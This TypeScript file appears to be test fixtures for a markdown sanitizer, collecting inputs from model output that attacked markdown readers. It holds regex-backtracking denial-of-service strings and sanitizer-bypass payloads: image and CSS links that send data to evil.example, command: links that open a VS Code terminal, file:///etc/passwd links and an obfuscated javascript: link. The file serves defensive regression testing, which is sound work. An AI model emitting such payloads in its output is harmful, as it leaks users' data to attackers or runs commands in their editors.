/**
 * Model output that attacked the markdown readers (issue 13). R33: inputs that made a regular
 * expression backtrack or a loop go quadratic, each with a builder that scales its repeated part.
 * R34: inputs that got live content past the sanitizer.
 */
export interface ScalableInput {
  readonly name: string;
  /** The input exactly as reported. */
  readonly exact: string;
  /** The same pattern grown to about `size` characters. */
  readonly build: (size: number) => string;
  /** Chunk size for the stream filter, when the report streamed it in chunks. */
  readonly chunk?: number;
}

export const BACKTRACKING_INPUTS: readonly ScalableInput[] = [
  {
    name: '"-   "×15 + "x[" on one line',
    exact: '-   '.repeat(15) + 'x[',
    build: (size) => '-   '.repeat(size / 4) + 'x[',
  },
  {
    name: '"## " + 3,000 spaces + "x"',
    exact: '## ' + ' '.repeat(3000) + 'x',
    build: (size) => '## ' + ' '.repeat(size) + 'x',
  },
  {
    name: '100 KB of "##  -  \\n"',
    exact: '##  -  \n'.repeat(100_000 / 8),
    build: (size) => '##  -  \n'.repeat(size / 8),
  },
  {
    name: '400 KB of spaces streamed in 4-character chunks',
    exact: ' '.repeat(400_000),
    build: (size) => ' '.repeat(size),
    chunk: 4,
  },
  {
    name: '"![" × 50,000 on one line',
    exact: '!['.repeat(50_000),
    build: (size) => '!['.repeat(size / 2),
  },
];

export interface BypassInput {
  readonly name: string;
  readonly text: string;
}

export const BYPASS_INPUTS: readonly BypassInput[] = [
  { name: 'an escaped backtick before an image', text: '\\` ![x](https://evil.example/?q=S) `\n' },
  { name: 'a code span opened on the previous line', text: 'see `a\nb` ![x](https://evil.example/?q=S) `c`\n' },
  { name: 'a lone CR after a closing fence', text: '```\ncode\n```\r![x](https://evil.example/?q=S)\n' },
  { name: 'a fence inside an indented list item', text: '- x\n  ```sh\n  a\n\n![x](https://evil.example/?q=S)\n' },
  { name: 'a reference definition whose label spans two lines', text: '[foo\nbar]: command:workbench.action.terminal.new\n\n[foo bar]\n' },
  { name: 'a command\\: link', text: '[x](command\\:workbench.action.terminal.new)\n' },
  { name: 'a &#99;ommand: link', text: '[x](&#99;ommand:workbench.action.terminal.new)\n' },
  { name: 'a &colon; and a percent-escaped scheme', text: '[a](vscode&colon;extension/x) [b](%66ile:///etc/passwd)\n' },
  { name: 'a tab hidden in a javascript: link', text: '[x](jav&#x09;ascript:alert(1))\n' },
  { name: 'style="background-image:url(…)"', text: '<p style="background-image:url(https://evil.example/?q=S)">hi</p>\n' },
  { name: '<table background=…>', text: '<table background="https://evil.example/?q=S"><tr><td>x</td></tr></table>\n' },
  { name: 'an HTML block that hides a fence', text: '<div>\n```\n\n![x](https://evil.example/?q=S)\n' },
  { name: 'a fence after a list marker', text: '- ```\n  a\n  ```\n  ![x](https://evil.example/?q=S)\n' },
  { name: 'an indented fence that the next line does not close', text: '  ```\nx\n```\n![x](https://evil.example/?q=S)\n' },
  { name: 'a vscode: autolink and a file: link', text: '<vscode://ms-python.python/x> [f](file:///etc/passwd)\n' },
];
